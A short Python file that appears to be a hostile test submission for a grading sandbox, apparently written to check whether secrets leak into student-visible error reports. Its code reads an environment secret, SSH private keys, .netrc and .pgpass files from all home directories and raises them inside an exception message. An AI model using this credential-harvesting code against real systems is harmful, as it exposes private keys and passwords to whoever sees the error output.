# fail error: tries to smuggle what it has read into the message of an error
"""The report shows the student what the error says: so the error says everything."""

import os
from pathlib import Path


def _secrets():
    yield os.environ.get("THREADLINGS_SECRET", "")
    for file in ("secret", ".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".pgpass"):
        for home in {Path.home(), Path("/root"), *Path("/home").glob("*")}:
            try:
                yield (home / file).read_text("utf-8", "replace")[:400]
            except OSError:
                pass


class Account:
    def __init__(self, balance):
        raise LookupError(" ".join(filter(None, _secrets())) or "nothing found")


def transfer(source, target, amount):
    return False
